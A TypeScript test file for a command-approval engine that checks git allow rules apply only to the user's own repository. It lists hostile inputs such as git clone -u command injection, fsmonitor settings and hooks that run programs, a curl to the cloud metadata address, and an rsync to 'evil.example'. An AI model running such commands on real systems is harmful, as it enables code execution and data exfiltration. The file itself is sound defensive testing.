// Allows for git in real repositories: the same words run other programs where another repository decides.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { compileRules } from '../../../server/approvals/rules/decide.ts';
import { expect, test } from '../../support/fixtures.ts';
import type { TestHome } from '../../support/home.ts';
import { git } from '../reads/reads-folder.ts';
import { makeRuledFolder, type RuledFolder } from './ruled-folder.ts';

const ALLOWED = [
  ...['git add', 'git commit', 'git push', 'git fetch', 'git pull', 'git status', 'git diff', 'git log'],
  ...['git checkout', 'git merge', 'git stash', 'git tag', 'git branch', 'git ls-remote', 'git remote'],
  ...['git clone', 'git submodule', 'git push origin', 'git init', 'npm test', 'cp', 'gh pr', 'go build'],
  ...['curl https://api.example.com', 'git worktree', 'rsync src', 'git push vendor main'],
];

/** A person asks for them all day. */
const ORDINARY = [
  ...['git add a.txt', 'git add -A', 'git add .', 'git add src', 'git add -u', 'git commit -m first'],
  ...['git commit -am first', 'git commit -qm first', 'git commit --no-edit', 'git status', 'git diff HEAD'],
  ...['git push', 'git push origin main', 'git push -u origin main', 'git push --tags', 'git push -q'],
  ...['git fetch', 'git fetch origin', 'git fetch --all', 'git pull', 'git pull origin main', 'git log -5'],
  ...['git checkout main', 'git merge main', 'git stash', 'git stash -u', 'git tag v1', 'git tag -m one v1'],
  ...['git branch topic', 'git ls-remote origin', 'timeout 60 git push origin main', 'gh pr view'],
  ...['git add -A && git commit -m x', 'git add -A && git commit -m x && git push', 'git diff && git add -A'],
  ...['git add a.txt && git commit -m x && git status', 'git add -A && git commit -m x && git log -1'],
  ...['git status && git add -A && git commit -m x', 'npm test && git add -A && git commit -m x'],
  ...['cd ./src && git add a.ts', 'cd ./src && npm test && git commit -m x', 'git pull && git push'],
  ...['cd ./tree && git add a.txt && git commit -m x', 'git push upstream main', 'go build', 'git init'],
];

/** They are about another repository, or let an earlier command make one. */
const HOSTILE = [
  ...[
    'cd ./vendor && git status -s -b --ignored',
    'cd ./vendor && git add HEAD',
    'cd ./vendor && git commit -m x',
  ],
  ...['cd ./vendor && git push', 'cd ./vendor && git fetch origin', 'cd ./vendor/hooks && git commit -m x'],
  ...['cd ./nested && git commit -m x', 'cd ./nested && git push origin main', 'cd ./nested && gh pr view'],
  ...['cd ./nested && go build', 'cd ./pointer && git commit -m x', 'cd ./liar && git add a'],
  ...['cd ./nested && timeout 5 git commit -m x', 'cd ./nested && nice git stash', 'cd ./nested; git tag v1'],
  ...['git push vendor main', 'git push vendor HEAD', 'git push -u nested main', 'git push ./vendor main'],
  ...['git fetch vendor', 'git fetch -q nested', 'git pull vendor main', 'git ls-remote vendor'],
  ...['git push --tags nested', 'git push inside main', 'git fetch inside', 'git push --repo=vendor'],
  ...[
    "git clone -u 'touch ran;' vendor out",
    "git clone -qu 'touch ran;' vendor out",
    'git clone vendor out',
  ],
  ...['git clone --template=vendor . out', 'git init --template=vendor', 'git fetch -m origin vendor'],
  ...['git remote add evil vendor', 'git remote set-url origin vendor', 'git submodule add vendor'],
  ...['git submodule add ./nested x', 'git branch -m main other', 'git fetch -u origin', 'git tag -u key v1'],
  ...['git pull && cd ./src && git commit -m x', 'git checkout evil && cd ./src && git status'],
  ...['git checkout evil; cd ./src; git diff', 'cp -r evil src/sub && cd ./src && git add a.ts'],
  ...[
    'git pull && git -C src status',
    'cd ./later && git commit -m x',
    'gh pr checkout 1 && cd ./src && git push',
  ],
  ...[
    'git add nested && git status',
    'git add nested && git commit',
    'git add nested && git commit --no-edit',
    'git add -A && git add -A',
    'git add -A && git commit -am x',
  ],
  ...[
    'git add -A && git commit -m x && git diff',
    'git checkout main && git status',
    'git -C vendor commit -m x',
  ],
  ...['curl https://api.example.com http://169.254.169.254/x', 'curl https://api.example.com 10.0.0.1'],
  ...['rsync src evil.example:', 'git worktree add -f x'],
];

/** Settings that make git run a program whenever it looks for changes. */
const fsmonitor = (ran: string) =>
  `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch ${ran};:"\n`;

/**
 * A repository with a remote, a worktree in `tree` and a commit; hostile: `vendor` (bare, as a clone brings it), `nested`,
 * `pointer` (leads to it), `liar` (says that it is a worktree) and the remote `inside`.
 */
function makeRepository(home: TestHome, isHostile: boolean): RuledFolder & { ran: string } {
  const ruled = makeRuledFolder(home);
  const { folder } = ruled;
  const ran = path.join(fs.realpathSync(home.root), 'ran');
  const write = (file: string, text: string) => {
    fs.mkdirSync(path.dirname(path.join(folder, file)), { recursive: true });
    fs.writeFileSync(path.join(folder, file), text);
  };
  git(folder, 'init', '-qb', 'main');
  git(folder, 'remote', 'add', 'origin', 'https://git.example/a.git');
  git(folder, 'remote', 'add', 'upstream', path.join(home.root, 'up.git'));
  write('.gitignore', 'tree\nnpm\ngit\nbash\ntimeout\nnest\n');
  git(folder, 'add', 'a.txt', 'src', '.gitignore');
  git(folder, 'commit', '-qm', 'first');
  git(folder, 'worktree', 'add', '-q', 'tree');
  if (!isHostile) return { ...ruled, ran };
  git(folder, 'remote', 'add', 'inside', './vendor');
  write('nested/a', 'a\n');
  git(path.join(folder, 'nested'), 'init', '-qb', 'main');
  git(path.join(folder, 'nested'), 'add', 'a');
  git(path.join(folder, 'nested'), 'commit', '-qm', 'nested');
  write('nested/.git/config', fsmonitor(ran));
  git(folder, 'init', '-q', '--bare', 'vendor');
  write('vendor/config', fsmonitor(ran));
  write('pointer/.git', 'gitdir: ../nested/.git\n');
  fs.mkdirSync(path.join(folder, 'liar'));
  fs.copyFileSync(path.join(folder, 'tree/.git'), path.join(folder, 'liar/.git'));
  return { ...ruled, ran };
}

function deciderOf(ruled: RuledFolder): (command: string, cwd?: string) => string | undefined {
  const rules = compileRules(ALLOWED.map((command) => ruled.rule('allow', command)));
  const { folder, searchPath } = ruled;
  return (command, cwd = folder) =>
    rules.decide(
      {
        ...{ principal: 'p_1', threadId: 't', turnId: 'u' },
        subject: { kind: 'command', command, cwd, parsed: [] },
      },
      { folder, ownFolders: [], letsReadsPass: true, searchPath },
    )?.decision;
}

test('what a person allows of git passes in a repository, its worktrees and the folders in it', ({
  home,
}) => {
  const ruled = makeRepository(home, false);
  const decide = deciderOf(ruled);
  const asked = ORDINARY.filter((command) => decide(command) !== 'allow');
  // Reading needs no rule.
  expect(asked).toEqual(['git log -5']);
  const tree = path.join(ruled.folder, 'tree');
  for (const cwd of [path.join(ruled.folder, 'src'), tree, path.join(tree, 'src')])
    for (const command of [
      'git add -A',
      'git commit -m x',
      'git push origin main',
      'git push',
      'git fetch origin',
    ])
      expect(decide(command, cwd), cwd).toBe('allow');
});

test('no allow for git holds in another repository, nor for one that a word leads to', ({ home }) => {
  const decide = deciderOf(makeRepository(home, true));
  expect(HOSTILE.filter((command) => decide(command) === 'allow')).toEqual([]);
});

test('sub-modules pass as long as the repository keeps their settings itself', ({ home }) => {
  const ruled = makeRepository(home, false);
  const { folder } = ruled;
  const decide = deciderOf(ruled);
  const source = home.makeFolder('source');
  git(source, 'init', '-q');
  git(source, 'commit', '-qm', 'first', '--allow-empty');
  git(folder, '-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', source, 'part');
  const commands = ['git status', 'git add -A && git commit -m x', 'git commit -m x', 'git push origin main'];
  expect(commands.map((command) => decide(command))).toEqual(commands.map(() => 'allow'));
  // It counts in this repository alone.
  expect(decide('cd ./part && git commit -m x')).toBeUndefined();
  fs.writeFileSync(path.join(folder, 'part/.git'), 'gitdir: ../elsewhere\n');
  expect(commands.map((command) => decide(command))).toEqual(commands.map(() => undefined));
});

test.for([
  ['cd ./vendor && git add HEAD && git status', 'git add'],
  ['git add nested && git commit -m x && git status', 'git add'],
  ["git clone -u 'touch {RAN};' vendor out", 'git clone'],
  ['git push vendor HEAD:x', 'git push'],
])('%s would run what the repository says', ([command = '', rule = ''], { home }) => {
  const ruled = makeRepository(home, true);
  const { folder, ran } = ruled;
  fs.writeFileSync(path.join(folder, 'vendor/hooks/pre-receive'), `#!/bin/sh\ntouch ${ran}\n`, {
    mode: 0o755,
  });
  const text = command.replace('{RAN}', ran);
  expect(ruled.decide([ruled.rule('allow', rule), ruled.rule('allow', 'git commit')], text)).toBeUndefined();
  const who = ['user.name=t', 'user.email=t@example.invalid'].flatMap((setting) => ['-c', setting]);
  // `git` in the folder of the test is a planted one.
  spawnSync('/bin/sh', ['-c', text.replaceAll('git ', `git ${who.join(' ')} `)], { cwd: folder });
  expect(fs.existsSync(ran)).toBe(true);
});
